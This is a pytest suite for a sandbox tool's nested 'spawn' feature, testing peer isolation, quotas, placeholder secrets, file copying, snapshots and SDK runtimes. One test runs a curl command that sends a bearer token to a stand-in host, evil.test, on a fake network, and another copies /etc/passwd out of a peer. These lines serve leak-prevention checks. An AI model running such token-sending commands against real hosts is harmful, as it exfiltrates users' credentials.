# SPDX-License-Identifier: Apache-2.0
"""Sandboxes that spawn sandboxes (docs/spawn.md): a parent started with
--allow-spawn runs `msb start/exec/ps/logs/stop/rm` inside itself, over
its agent's link to the host (not the network), on peers the host makes
within the parent's limits. One parent (Debian with curl, on the fake
internet with its TLS servers) and its two peers are booted once for the
module: one with a secret passed by placeholder, one air-gapped. The
servers' logs (fakenet.py) show where a value went. Last, the SDKs'
runtimes from inside a parent of the built-in image: a static Go program
on the pure-Go package, a Rust program with only the C library it was
built against copied in, and the TypeScript and Python examples under
the host's node and Python copied in; no libmsb in the guest."""

import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time

import pytest

from conftest import BUILD, ROOT, files_holding, unique
from fakenet import internet, tls_internet  # noqa: F401

sys.path.insert(0, os.path.join(ROOT, "tests", "images"))

VALUE = "sk-spawn-" + os.urandom(12).hex()


@pytest.fixture(scope="module")
def debian_image(msb, tmp_path_factory):
    """tests/images/debian.py's python3 + curl image, loaded."""
    import build
    import debian
    try:
        im = debian.image()
    except debian.Unavailable as e:
        pytest.skip(f"Debian packages for the curl image unavailable: {e}")
    d = str(tmp_path_factory.mktemp("debian-layout"))
    build.write_layout(im, d, "debian-curl:1")
    msb("load", "-q", "-t", "debian-curl:1", d, check=0)
    return "debian-curl:1"


@pytest.fixture(scope="module")
def parent(msb, debian_image, tls_internet):
    """TOKEN bound to api.test and evil.test; two peers at most, of
    256M each."""
    name = unique("parent")
    msb("run", debian_image, "--name", name, "-d", "--dns-nameserver",
        "198.51.100.2", "--tls-upstream-ca", tls_internet.ca,
        "--secret-env", "TOKEN=@env:MSB_SPAWN_TOKEN:api.test,evil.test",
        "--allow-spawn", "2", "--spawn-memory", "256M", check=0,
        env={"MSB_SPAWN_TOKEN": VALUE})
    yield name
    msb("rm", "-f", name)


def inside(msb, name, *argv, timeout=180):
    """argv run in sandbox @name (no shell between)."""
    p = msb("exec", name, "--", *argv, timeout=timeout)
    return p.returncode, p.stdout.decode(), p.stderr.decode()


@pytest.fixture(scope="module")
def peers(msb, parent):
    """The parent starts "researcher" with its TOKEN for api.test only,
    and the air-gapped "coder"."""
    r = inside(msb, parent, "msb", "start", "researcher",
               "--secret-env", "TOKEN=@env:TOKEN:api.test")
    assert r[0] == 0 and r[1] == "researcher\n", r
    r = inside(msb, parent, "msb", "start", "coder", "--net-deny-all")
    assert r[0] == 0 and r[1] == "coder\n", r
    return "researcher", "coder"


def test_the_parent_runs_commands_in_its_peers(msb, parent, peers):
    researcher, coder = peers
    rc, out, err = inside(msb, parent, "msb", "exec", researcher, "--", "sh",
                          "-c", "hostname; echo to-stderr >&2; exit 3")
    assert rc == 3 and out == "researcher\n" and "to-stderr" in err, \
        (rc, out, err)
    # output past the agent's buffers, read slowly: the program's credit
    # holds the host back, nothing is cut
    rc, out, err = inside(msb, parent, "sh", "-c",
                          f"msb exec {researcher} -- head -c 3000000 "
                          "/dev/zero | (sleep 2; wc -c)")
    assert rc == 0 and out.strip() == "3000000", (out, err)
    rc, out, _ = inside(msb, parent, "msb", "exec", coder, "--",
                        "hostname")
    assert rc == 0 and out.strip() == "coder"
    # its own peers, from inside, and the host's view of who spawned whom
    rc, out, _ = inside(msb, parent, "msb", "ps", "--format", "json")
    mine = {p["name"]: p["status"] for p in json.loads(out)}
    assert mine == {researcher: "running", coder: "running"}, out
    rows = {r["name"]: r for r in json.loads(msb.out("ps", "--format",
                                                     "json"))}
    assert rows[researcher]["parent"] == parent
    assert rows[coder]["parent"] == parent
    assert rows[parent]["parent"] is None
    table = msb.out("ps").splitlines()
    assert "PARENT" in table[0]
    assert any(l.split()[0] == coder and l.split()[-1] == parent
               for l in table[1:]), table
    # the supervisor's event, in the parent's stream
    evs = [json.loads(l) for l in msb.out(
        "events", parent, "--format", "json", "--topic",
        "msb.peer.*").splitlines()]
    assert {e["data"]["name"] for e in evs} == {researcher, coder}, evs


def test_the_air_gapped_peer_has_no_network(msb, parent, peers, tls_internet):
    researcher, coder = peers
    rc, out, _ = inside(msb, parent, "msb", "exec", researcher, "--",
                        "curl", "-sS", "-m", "20", "http://web.test/")
    assert rc == 0 and out == "hello from the fake internet\n", out
    rc, out, err = inside(msb, parent, "msb", "exec", coder, "--",
                          "curl", "-sS", "-m", "5", "http://198.51.100.2/")
    assert rc != 0, (out, err)
    assert "denied tcp 198.51.100.2:80: --net-deny-all" in \
        msb.out("logs", coder)


def test_a_secret_by_placeholder_works_at_its_bound_host_only(
        msb, parent, peers, tls_internet):
    researcher, _ = peers
    mine = inside(msb, parent, "sh", "-c", 'echo "$TOKEN"')[1].strip()
    theirs = inside(msb, parent, "msb", "exec", researcher, "--", "sh", "-c",
                    'echo "$TOKEN"')[1].strip()
    assert mine.startswith("msb_placeholder_") and \
        theirs.startswith("msb_placeholder_") and mine != theirs
    api, evil = (len(tls_internet.log(k)) for k in ("api", "evil"))
    curl = 'curl -sS -m 20 -H "Authorization: Bearer $TOKEN" https://%s/s'
    rc, _, err = inside(msb, parent, "msb", "exec", researcher, "--", "sh",
                        "-c", curl % "api.test")
    assert rc == 0, err
    assert f"Bearer {VALUE}".encode() in tls_internet.log("api")[api:]
    # evil.test: the parent's binding, not the peer's
    inside(msb, parent, "msb", "exec", researcher, "--", "sh", "-c",
           curl % "evil.test")
    assert VALUE.encode() not in tls_internet.log("evil")[evil:]
    # while the parent itself may send it there
    rc, _, err = inside(msb, parent, "sh", "-c", curl % "evil.test")
    assert rc == 0 and VALUE.encode() in tls_internet.log("evil")[evil:], err
    # the value is in no guest, record, log or file of the host's state
    assert files_holding(msb.home, VALUE) == []


@pytest.mark.parametrize("argv, why", [
    (["--net-allow-cidr", "10.0.0.0/8"],
     "--net-allow-cidr 10.0.0.0/8 is wider than this sandbox's own network"),
    (["--secret-env", "T=@env:TOKEN:other.test"],
     "host 'other.test' is wider than this sandbox's binding"),
    (["--secret-env", "T=@env:PATH"],
     "is not a placeholder of this sandbox's secrets"),
    (["--image", "busybox:latest"],
     "image 'busybox:latest' is not one this sandbox may start peers from"),
    (["--memory", "1G"], "over the host's ceiling"),
])
def test_a_peer_may_not_be_wider_than_its_parent(msb, parent, peers, argv,
                                                 why):
    rc, out, err = inside(msb, parent, "msb", "start", "wide", *argv)
    assert rc == 125, (out, err)
    # (the tree is full too; what is wider is said first)
    assert why in err, err
    assert "wide" not in msb.out("ps", "-a", "-q").split()


def test_the_quota_counts_the_whole_tree(msb, parent, peers):
    researcher, _ = peers
    rc, _, err = inside(msb, parent, "msb", "start", "third")
    assert rc == 125 and "already has 2 live peers" in err, err
    # a peer's own peers count against its root's quota
    rc, _, err = inside(msb, parent, "msb", "exec", researcher, "--",
                        "msb", "start", "grandchild")
    assert rc == 125 and "already has 2 live peers" in err, err
    assert "third" not in msb.out("ps", "-a", "-q").split()


def test_only_its_own_peers(msb, parent, peers, shared):
    researcher, _ = peers
    for argv in (["exec", shared, "--", "true"], ["stop", shared],
                 ["rm", shared], ["logs", shared]):
        rc, _, err = inside(msb, parent, "msb", *argv)
        assert rc == 125 and f"'{shared}' is not a peer of this sandbox" \
            in err, (argv, err)
    # a peer may not act on its parent either
    rc, _, err = inside(msb, parent, "msb", "exec", researcher, "--", "msb",
                        "exec", parent, "--", "true")
    assert rc == 125 and "is not a peer of this sandbox" in err, err
    assert json.loads(msb.out("inspect", shared))["status"] == "running"


def test_spawning_is_off_without_allow_spawn(msb, shared):
    rc, _, err = inside(msb, shared, "msb", "start", "nope")
    assert rc == 125 and "spawning is off for this sandbox" in err, err


def test_outside_a_sandbox_it_says_so(msb):
    p = msb("start", "researcher", "--image", "busybox")
    assert p.returncode == 125
    assert b"not inside a microsandbox sandbox" in p.stderr, p.stderr


def status_soon(msb, name, want, within=120):
    """Whether sandbox @name's status is one of @want within @within
    seconds."""
    end = time.monotonic() + within
    while time.monotonic() < end:
        if json.loads(msb.out("inspect", name))["status"] in want:
            return True
        time.sleep(0.5)
    return False


def vm_of(supervisor):
    """The QEMU process below pid @supervisor, or None."""
    kids = {}
    for d in filter(str.isdigit, os.listdir("/proc")):
        try:
            st = open(f"/proc/{d}/stat").read()
        except (OSError, ValueError):
            continue
        comm, rest = st.split("(", 1)[1].rsplit(")", 1)
        kids.setdefault(int(rest.split()[1]), []).append((int(d), comm))
    todo = [supervisor]
    while todo:
        for pid, comm in kids.get(todo.pop(), []):
            if comm.startswith("qemu"):
                return pid
            todo.append(pid)
    return None


def sh(msb, parent, script, timeout=180):
    """@script run by sh in the parent, from /tmp."""
    return inside(msb, parent, "sh", "-c", "cd /tmp && " + script,
                  timeout=timeout)


def test_exec_streams_stdin_to_the_peer(msb, parent, peers):
    _, coder = peers
    rc, out, err = sh(msb, parent, f"echo hi | msb exec -i {coder} -- cat")
    assert rc == 0 and out == "hi\n", (rc, out, err)
    # as the host's msb exec: without -i the command reads end-of-file
    rc, out, err = sh(msb, parent, f"echo hi | msb exec {coder} -- cat")
    assert rc == 0 and out == "", (rc, out, err)
    # the end of the input reaches the command
    rc, out, err = sh(msb, parent,
                      f"msb exec -i {coder} -- wc -c < /dev/null")
    assert rc == 0 and out.strip() == "0", (rc, out, err)
    # 3 MB in while the peer does not read for a while (the window holds
    # the program back), and 3 MB through cat, in and out at once
    rc, out, err = sh(msb, parent,
                      "head -c 3000000 /dev/urandom > in && md5sum < in && "
                      f"msb exec -i {coder} -- sh -c 'sleep 2; md5sum' < in && "
                      f"msb exec -i {coder} -- cat < in | md5sum")
    sums = [l.split()[0] for l in out.splitlines()]
    assert rc == 0 and len(sums) == 3 and len(set(sums)) == 1, (out, err)


def test_exec_with_a_terminal(msb, parent, peers):
    _, coder = peers
    rc, out, err = inside(msb, parent, "msb", "exec", "-t", coder, "--",
                          "tty")
    assert rc == 0 and out.strip().startswith("/dev/pts/"), (rc, out, err)
    rc, out, _ = inside(msb, parent, "msb", "exec", coder, "--", "tty")
    assert rc != 0 and "not a tty" in out, out
    # on a terminal, its size goes with it
    p = msb("exec", "-t", parent, "--", "sh", "-c",
            f"stty rows 33 cols 101; msb exec -t {coder} -- stty size")
    assert p.returncode == 0 and p.stdout.decode().split() == ["33", "101"], \
        (p.stdout, p.stderr)


def test_cp_to_and_from_a_peer(msb, parent, peers, shared):
    _, coder = peers
    tree = ("rm -rf t back && mkdir -p t/sub && echo one > t/a && "
            "head -c 1500000 /dev/urandom > t/sub/big && chmod 640 t/a && "
            "chmod 750 t/sub && ln -s a t/link")
    # each path's type, mode and a symlink's target, and the files' sums
    listing = ("cd {d} && python3 -c 'import os, stat\n"
               "for d, ds, fs in sorted(os.walk(\".\")):\n"
               " for n in sorted(ds + fs):\n"
               "  p = os.path.join(d, n); s = os.lstat(p)\n"
               "  l = os.readlink(p) if stat.S_ISLNK(s.st_mode) else \"\"\n"
               "  print(p, oct(s.st_mode), l)' && md5sum a sub/big")
    rc, _, err = sh(msb, parent, f"{tree} && msb cp t {coder}:/tmp/")
    assert rc == 0, err
    here = sh(msb, parent, listing.format(d="t"))[1]
    there = inside(msb, parent, "msb", "exec", coder, "--", "sh", "-c",
                   listing.format(d="/tmp/t"))[1]
    assert "./link 0o120777 a" in here and "./sub 0o40750" in here and \
        "./a 0o100640" in here, here
    assert here == there, (here, there)
    # and back, as a new directory
    rc, _, err = sh(msb, parent, f"msb cp {coder}:/tmp/t back && "
                    "diff -r t back && " + listing.format(d="back"))
    assert rc == 0, err
    # one file into this directory, and a file's bytes on stdout
    rc, out, err = sh(msb, parent, f"msb cp {coder}:/etc/passwd . && "
                      f"msb cp {coder}:/tmp/t/a - && "
                      f"msb exec {coder} -- cat /etc/passwd | "
                      "cmp - passwd && echo same")
    assert rc == 0 and out == "one\nsame\n", (out, err)
    rc, out, err = sh(msb, parent, f"echo bytes | msb cp - {coder}:/tmp/b && "
                      f"msb exec {coder} -- cat /tmp/b")
    assert rc == 0 and out == "bytes\n", (out, err)
    rc, _, err = sh(msb, parent, f"msb cp {coder}:/nope /tmp/x")
    assert rc == 125 and "/nope" in err and "No such file" in err, err
    # only its own peers
    rc, _, err = sh(msb, parent, f"msb cp t {shared}:/tmp/")
    assert rc == 125 and f"'{shared}' is not a peer of this sandbox" in err, \
        err


def test_snapshot_and_restore_of_a_peer(msb, parent, peers, shared):
    researcher, coder = peers
    snap, rsnap = unique("coder-snap"), unique("researcher-snap")
    rc, out, err = sh(msb, parent,
                      f"msb exec {coder} -- sh -c 'echo kept > /tmp/mark' && "
                      f"msb snapshot {coder} --name {snap}")
    assert rc == 0 and out == f"{snap} (full)\n", (out, err)
    rc, out, err = inside(msb, parent, "msb", "snapshot", researcher,
                          "--name", rsnap)
    assert rc == 0, err
    # kept on the host, listed inside only for its peers
    host = {s["name"]: s for s in json.loads(msb.out("snapshot", "ls",
                                                     "--format", "json"))}
    assert host[snap]["source"] == coder
    mine = json.loads(inside(msb, parent, "msb", "snapshot", "ls",
                             "--format", "json")[1])
    assert {s["name"] for s in mine} == {snap, rsnap}, mine
    rc, _, err = inside(msb, parent, "msb", "snapshot", shared, "--name",
                        unique("nope"))
    assert rc == 125 and "is not a peer of this sandbox" in err, err
    # a restore is a start: within the tree's quota
    rc, _, err = inside(msb, parent, "msb", "restore", snap, "--name",
                        "coder2")
    assert rc == 125 and "already has 2 live peers" in err, err
    # a peer's secrets were values: its snapshot cannot bring them back
    rc, _, err = inside(msb, parent, "msb", "restore", rsnap, "--name", "r2")
    assert rc == 125 and "secrets given at its creation" in err, err
    # only its own peers' snapshots: a peer of it has none
    rc, _, err = inside(msb, parent, "msb", "exec", researcher, "--", "msb",
                        "restore", snap, "--name", "x2")
    assert rc == 125 and "is not a snapshot of this sandbox's peers" in err, \
        err
    rc, _, err = inside(msb, parent, "msb", "stop", coder)
    assert rc == 0, err
    rc, out, err = sh(msb, parent, f"msb restore {snap} --name coder2 && "
                      "msb exec coder2 -- sh -c 'hostname; cat /tmp/mark'")
    assert rc == 0 and out == "coder2\ncoder2\nkept\n", (out, err)
    rows = {r["name"]: r for r in json.loads(msb.out("ps", "--format",
                                                     "json"))}
    assert rows["coder2"]["parent"] == parent
    # the snapshot is the base of coder2: removed once coder2 is
    rc, _, err = inside(msb, parent, "msb", "snapshot", "rm", snap)
    assert rc == 125 and "remove them first" in err, err
    for argv in (["rm", "coder2"], ["snapshot", "rm", snap],
                 ["snapshot", "rm", rsnap]):
        rc, _, err = inside(msb, parent, "msb", *argv)
        assert rc == 0, (argv, err)
    assert not {snap, rsnap} & {s["name"] for s in json.loads(
        msb.out("snapshot", "ls", "--format", "json"))}
    # a stopped peer without secrets starts again, from its parent
    rc, out, err = inside(msb, parent, "msb", "start", coder)
    assert rc == 0 and out == f"{coder}\n", (out, err)
    assert json.loads(msb.out("inspect", coder))["status"] == "running"
    rc, out, _ = inside(msb, parent, "msb", "exec", coder, "--", "cat",
                        "/tmp/b")
    assert rc == 0 and out == "bytes\n", out


def test_a_peer_with_secrets_cannot_be_started_again(msb, parent, peers):
    researcher, _ = peers
    rc, _, err = inside(msb, parent, "msb", "stop", researcher)
    assert rc == 0, err
    rc, _, err = inside(msb, parent, "msb", "start", researcher)
    assert rc == 125 and "secrets given at its creation" in err and \
        "start a new peer" in err, err
    p = msb("start", researcher)
    assert p.returncode == 1, p.stderr
    assert f"'{researcher}' is a peer of '{parent}' holding secrets given " \
        "at its creation" in p.stderr.decode(), p.stderr
    assert b"start a new peer" in p.stderr
    assert json.loads(msb.out("inspect", researcher))["status"] == "stopped"


def test_stop_and_rm_of_a_peer_and_the_parent_takes_its_peers(msb, parent,
                                                             peers):
    researcher, coder = peers
    rc, _, err = inside(msb, parent, "msb", "stop", coder)
    assert rc == 0, err
    assert json.loads(msb.out("inspect", coder))["status"] == "stopped"
    rc, out, _ = inside(msb, parent, "msb", "logs", coder)
    assert "booting coder" in out
    rc, _, err = inside(msb, parent, "msb", "start", coder)
    assert rc == 0, err
    # stopping the parent stops its peers; starting it again does not
    # start them: its program does, when it wants them
    msb("stop", parent, check=0)
    assert json.loads(msb.out("inspect", coder))["status"] == "stopped"
    msb("start", parent, check=0, env={"MSB_SPAWN_TOKEN": VALUE})
    assert json.loads(msb.out("inspect", coder))["status"] == "stopped"
    rc, out, _ = inside(msb, parent, "msb", "ps", "--format", "json")
    assert {p["name"]: p["status"] for p in json.loads(out)} == \
        {researcher: "stopped", coder: "stopped"}, out
    # however the parent goes down: here its VM dies under it
    rc, _, err = inside(msb, parent, "msb", "start", coder)
    assert rc == 0, err
    vm = vm_of(json.loads(msb.out("inspect", parent))["pid"])
    assert vm, "no VM under the parent's supervisor"
    os.kill(vm, signal.SIGKILL)
    assert status_soon(msb, parent, ("stopped", "failed"))
    assert status_soon(msb, coder, ("stopped",))
    msb("rm", "-f", parent, check=0)
    left = msb.out("ps", "-a", "-q").split()
    assert researcher not in left and coder not in left, left


def go_binary():
    for cand in (shutil.which("go"), "/usr/local/go/bin/go"):
        if cand and os.access(cand, os.X_OK):
            return cand
    return None


@pytest.fixture(scope="module")
def go_peers(tmp_path_factory):
    """sdk/go/examples/peers built with CGO_ENABLED=0: one static file,
    the SDK's guest package speaking the agent's frames itself."""
    go = go_binary()
    if not go:
        pytest.skip("no Go toolchain (Go >= 1.22) on this host")
    out = str(tmp_path_factory.mktemp("go-peers") / "peers")
    p = subprocess.run([go, "build", "-o", out, "./examples/peers"],
                       cwd=os.path.join(ROOT, "sdk", "go"),
                       env=dict(os.environ, CGO_ENABLED="0", GOPROXY="off",
                                GOFLAGS="-mod=readonly"),
                       capture_output=True, text=True, timeout=600)
    assert p.returncode == 0, p.stdout + p.stderr
    return out


@pytest.fixture(scope="module")
def small_parent(msb):
    """A parent of the built-in image (busybox: no libmsb, no C library)
    allowed one peer, for the SDKs' programs."""
    name = unique("sdkparent")
    msb("run", "--name", name, "-d", "--allow-spawn", "1", check=0)
    yield name
    msb("rm", "-f", name)


def peer_events(msb, parent):
    return [json.loads(l)["data"]["name"] for l in msb.out(
        "events", parent, "--format", "json", "--topic",
        "msb.peer.*").splitlines()]


def steps_of(out):
    """An SDK peers example's output: one JSON object a line, by its step."""
    steps = {}
    for line in out.splitlines():
        step = json.loads(line)
        steps[step["step"]] = step
    return steps


def test_the_go_sdks_runtime_from_inside(msb, small_parent, go_peers):
    """The Go program: it starts a peer air-gapped, runs a command in it,
    takes 3 MB of output slowly (within its credit), lists it, is refused
    a second peer, reads its log, then feeds a command 3 MB on its stdin,
    copies a tree into the peer and back, and restores a snapshot as a
    new peer, as the Python and TypeScript examples do."""
    parent, peer = small_parent, unique("gopeer")
    msb("cp", go_peers, f"{parent}:/tmp/peers", check=0)
    try:
        rc, out, err = inside(msb, parent, "/tmp/peers", peer, timeout=300)
    finally:
        inside(msb, parent, "rm", "-rf", "/tmp/cp-src", "/tmp/cp-back")
    steps = steps_of(out)
    assert rc == 0, (out, err)
    assert steps["start"]["name"] == peer
    assert steps["exec"] == {"step": "exec", "code": 3,
                             "stdout": f"hello from {peer}\n",
                             "stderr": "to-stderr\n"}, steps["exec"]
    assert steps["big"] == {"step": "big", "bytes": 3000000, "code": 0}
    assert [(p["name"], p["status"]) for p in steps["list"]["peers"]] \
        == [(peer, "running")], steps["list"]
    assert "already has 1 live peers" in steps["refused"]["message"]
    assert steps["logs"]["booting"] is True
    check_stdin_cp_snapshot(steps, peer, "peer_sees_it", "back_same")
    assert steps["removed"]["peers"] == []
    # the host saw it: its spawn event, and no peer left
    assert peer in peer_events(msb, parent)
    left = msb.out("ps", "-a", "-q").split()
    assert not {peer, f"{peer}-2", f"{peer}-r", f"{peer}-x"} & set(left), left
    assert f"{peer}-snap" not in msb.out("snapshot", "ls")


def cargo_binary():
    for cand in (shutil.which("cargo"),
                 os.path.expanduser("~/.cargo/bin/cargo")):
        if cand and os.access(cand, os.X_OK):
            return cand
    return None


@pytest.fixture(scope="module")
def rust_peers():
    """sdk/rust/examples/peers, built against this build's libmsb as any
    program of the crate is, and the C libraries it needs (ldd): the
    built-in image has none, libmsb must not be one."""
    cargo = cargo_binary()
    if not cargo:
        pytest.skip("no Rust toolchain (cargo) on this host")
    target = os.path.join(BUILD, "cargo")
    env = dict(os.environ, PKG_CONFIG_PATH=os.path.join(BUILD, "lib",
                                                        "pkgconfig"),
               CARGO_TARGET_DIR=target, CARGO_NET_OFFLINE="true")
    env["PATH"] = os.path.dirname(cargo) + os.pathsep + env.get("PATH", "")
    p = subprocess.run([cargo, "build", "--offline", "--locked", "--example",
                        "peers"], cwd=os.path.join(ROOT, "sdk", "rust"),
                       env=env, capture_output=True, text=True, timeout=1200)
    assert p.returncode == 0, p.stderr[-4000:]
    exe = os.path.join(target, "debug", "examples", "peers")
    needed = subprocess.run(["readelf", "-d", exe], capture_output=True,
                            text=True, check=True).stdout
    assert "NEEDED" in needed and "libmsb" not in needed, needed
    libs = []
    for line in subprocess.run(["ldd", exe], capture_output=True, text=True,
                               check=True).stdout.splitlines():
        words = line.split()
        if "=>" in words and words[words.index("=>") + 1].startswith("/"):
            libs.append(words[words.index("=>") + 1])
        elif words and words[0].startswith("/"):
            libs.append(words[0])  # the loader
    return exe, libs


def test_the_rust_sdks_runtime_from_inside(msb, small_parent, rust_peers):
    """The Rust program, with the C library it was built against copied
    in beside it (no libmsb): the same steps as the Go program, its second
    stdin through the blocking API."""
    exe, libs = rust_peers
    parent, peer = small_parent, unique("rspeer")
    inside(msb, parent, "mkdir", "-p", "/tmp/libc")
    loader = None
    for lib in libs:
        base = os.path.basename(lib)
        msb("cp", os.path.realpath(lib), f"{parent}:/tmp/libc/{base}",
            check=0)
        if base.startswith("ld-linux"):
            loader = f"/tmp/libc/{base}"
    msb("cp", exe, f"{parent}:/tmp/peers-rs", check=0)
    try:
        rc, out, err = inside(msb, parent, loader, "--library-path",
                              "/tmp/libc", "/tmp/peers-rs", peer,
                              timeout=300)
    finally:
        inside(msb, parent, "rm", "-rf", "/tmp/cp-src", "/tmp/cp-back")
    steps = steps_of(out)
    assert rc == 0, (out, err)
    assert steps["start"]["name"] == peer
    assert steps["exec"] == {"step": "exec", "code": 3,
                             "stdout": f"hello from {peer}\n",
                             "stderr": "to-stderr\n"}, steps["exec"]
    assert steps["big"] == {"step": "big", "bytes": 3000000, "code": 0}
    assert steps["list"]["peers"] == [{"name": peer, "status": "running"}]
    assert "already has 1 live peers" in steps["refused"]["message"]
    assert steps["logs"]["booting"] is True
    check_stdin_cp_snapshot(steps, peer, "peer_sees_it", "back_same")
    assert steps["removed"]["peers"] == []
    assert peer in peer_events(msb, parent)
    left = msb.out("ps", "-a", "-q").split()
    assert not {peer, f"{peer}-2", f"{peer}-r", f"{peer}-x"} & set(left), left
    assert f"{peer}-snap" not in msb.out("snapshot", "ls")


@pytest.fixture(scope="module")
def node_files():
    """This host's node and the C libraries it needs (ldd), to copy into
    a guest of the built-in image, which has neither: the suite has no
    image with node, and none may be downloaded."""
    node = shutil.which("node")
    if not node:
        pytest.skip("no Node.js on this host")
    node = os.path.realpath(node)
    files = [node]
    for line in subprocess.run(["ldd", node], capture_output=True, text=True,
                               check=True).stdout.splitlines():
        words = line.split()
        if "=>" in words and words[words.index("=>") + 1].startswith("/"):
            files.append(words[words.index("=>") + 1])
        elif words and words[0].startswith("/"):
            files.append(words[0])  # the loader
    return files


def test_the_typescript_sdks_runtime_from_inside(msb, small_parent,
                                                 node_files):
    """sdk/typescript/examples/peers.js with the package's lib/ alone (no
    addon, no libmsb): the same steps as the Go program, then a command
    fed 3 MB on its stdin, a tree copied into the peer and back, and a
    snapshot restored as a new peer, as the Python example does."""
    parent, peer = small_parent, unique("tspeer")
    inside(msb, parent, "mkdir", "-p", "/tmp/node", "/tmp/msb/lib",
           "/tmp/msb/examples")
    loader = None
    for f in node_files:
        base = os.path.basename(f)
        msb("cp", os.path.realpath(f), f"{parent}:/tmp/node/{base}", check=0)
        if base.startswith("ld-linux"):
            loader = f"/tmp/node/{base}"
    ts = os.path.join(ROOT, "sdk", "typescript")
    for f in sorted(os.listdir(os.path.join(ts, "lib"))):
        if f.endswith(".js"):
            msb("cp", os.path.join(ts, "lib", f), f"{parent}:/tmp/msb/lib/{f}",
                check=0)
    msb("cp", os.path.join(ts, "examples", "peers.js"),
        f"{parent}:/tmp/msb/examples/peers.js", check=0)
    node = "/tmp/node/" + os.path.basename(node_files[0])
    rc, out, err = inside(msb, parent, loader, "--library-path", "/tmp/node",
                          node, "/tmp/msb/examples/peers.js", peer,
                          timeout=300)
    steps = steps_of(out)
    assert rc == 0, (out, err)
    assert steps["start"]["name"] == peer
    assert steps["exec"] == {"step": "exec", "code": 3,
                             "stdout": f"hello from {peer}\n",
                             "stderr": "to-stderr\n"}, steps["exec"]
    assert steps["big"] == {"step": "big", "bytes": 3000000, "code": 0}
    assert steps["list"]["peers"] == [{"name": peer, "status": "running"}]
    assert "already has 1 live peers" in steps["refused"]["message"]
    assert steps["logs"]["booting"] is True
    check_stdin_cp_snapshot(steps, peer, "peerSeesIt", "backSame")
    assert steps["removed"]["peers"] == []
    assert peer in peer_events(msb, parent)
    left = msb.out("ps", "-a", "-q").split()
    assert not {peer, f"{peer}-2", f"{peer}-r", f"{peer}-x"} & set(left), left
    assert f"{peer}-snap" not in msb.out("snapshot", "ls")


def check_stdin_cp_snapshot(steps, peer, sees, same):
    """The steps every SDK's example shares: a command's stdin, a command
    with a terminal, a copy in and back, a snapshot restored as a new
    peer."""
    st = steps["stdin"]
    assert st["sums"] == [st["want"], st["want"]], st
    assert st["cat"] == "hi\n" and st["empty"] == "0", st
    tt = steps["tty"]
    assert tt["code"] == 0 and re.fullmatch(r"/dev/pts/\d+\r\n33 101\r\n",
                                            tt["stdout"]), tt
    cp = steps["cp"]
    assert cp[sees] is True and cp[same] is True, cp
    # path -> (mode, a symlink's target), each example's modes in octal
    back = {n: (int(m.removeprefix("0o"), 8), w) for n, m, w in
            (line.split(" ", 2) for line in cp["back"])}
    assert {n: m for n, (m, _) in back.items()} == {
        "a": 0o100640, "link": 0o120777, "sub": 0o40750}, cp
    assert back["link"][1] == "a", cp
    sn = steps["snapshot"]
    assert sn["name"] == f"{peer}-snap"
    assert sn["listed"] == [[f"{peer}-snap", peer, "full"]], sn
    assert sn["restored"] == f"{peer}-r\nkept\n", sn
    assert "already has 1 live peers" in sn["refused"], sn
    assert "remove them first" in sn["busy"], sn
    assert sn["left"] == [], sn


@pytest.fixture(scope="module")
def python_tree(tmp_path_factory):
    """This host's Python, the C libraries it and its extension modules
    need (ldd), its standard library without tests, and the Python SDK's
    src/ and examples/, staged as one tree to copy into a guest of the
    built-in image, which has no Python: the suite has no image with the
    whole of its standard library (asyncio, json), and none may be
    downloaded."""
    import sysconfig
    exe = os.path.realpath(sys.executable)
    stdlib = sysconfig.get_paths()["stdlib"]
    ver = os.path.basename(stdlib)
    root = tmp_path_factory.mktemp("py") / "py"
    skip = shutil.ignore_patterns(
        "test", "tests", "__pycache__", "site-packages", "dist-packages",
        "idlelib", "tkinter", "turtledemo", "lib2to3", "ensurepip",
        "config-*", "pydoc_data", "*.pyc")
    shutil.copytree(stdlib, root / "lib" / ver, ignore=skip)
    os.makedirs(root / "bin")
    shutil.copy(exe, root / "bin" / "python3")
    libs, loader = {}, None
    dyn = root / "lib" / ver / "lib-dynload"
    objs = [exe] + ([str(dyn / f) for f in os.listdir(dyn)]
                    if os.path.isdir(dyn) else [])
    for obj in objs:
        for line in subprocess.run(["ldd", obj], capture_output=True,
                                   text=True).stdout.splitlines():
            words = line.split()
            if "=>" in words and words[words.index("=>") + 1].startswith("/"):
                lib = words[words.index("=>") + 1]
            elif words and words[0].startswith("/"):
                lib = words[0]  # the loader
                loader = os.path.basename(lib)
            else:
                continue
            libs[os.path.basename(lib)] = os.path.realpath(lib)
    os.makedirs(root / "libs")
    for base, path in libs.items():
        shutil.copy(path, root / "libs" / base)
    sdk = os.path.join(ROOT, "sdk", "python")
    shutil.copytree(os.path.join(sdk, "src"), root / "msb" / "src",
                    ignore=shutil.ignore_patterns("__pycache__", "*.pyc"))
    os.makedirs(root / "msb" / "examples")
    shutil.copy(os.path.join(sdk, "examples", "peers.py"),
                root / "msb" / "examples" / "peers.py")
    return str(root), loader


def test_the_python_sdks_runtime_from_inside(msb, small_parent, python_tree):
    """sdk/python/examples/peers.py with the package's src/ alone (no
    libmsb): a command fed 3 MB on its stdin, a tree copied into the peer
    and back, a snapshot restored as a new peer, and the host's refusals
    as the SDK's errors."""
    tree, loader = python_tree
    parent, peer = small_parent, unique("pypeer")
    msb("cp", tree, f"{parent}:/tmp/py", check=0)
    try:
        rc, out, err = inside(msb, parent, "env", "PYTHONHOME=/tmp/py",
                              f"/tmp/py/libs/{loader}", "--library-path",
                              "/tmp/py/libs", "/tmp/py/bin/python3",
                              "/tmp/py/msb/examples/peers.py", peer,
                              timeout=600)
    finally:
        inside(msb, parent, "rm", "-rf", "/tmp/py", "/tmp/cp-src",
               "/tmp/cp-back")
    steps = steps_of(out)
    assert rc == 0, (out, err)
    assert steps["start"]["name"] == peer
    assert steps["exec"] == {"step": "exec", "code": 3,
                             "stdout": f"hello from {peer}\n",
                             "stderr": "to-stderr\n"}, steps["exec"]
    check_stdin_cp_snapshot(steps, peer, "peer_sees_it", "back_same")
    assert steps["removed"]["peers"] == []
    left = msb.out("ps", "-a", "-q").split()
    assert not {peer, f"{peer}-r", f"{peer}-x"} & set(left), left
    assert f"{peer}-snap" not in msb.out("snapshot", "ls")
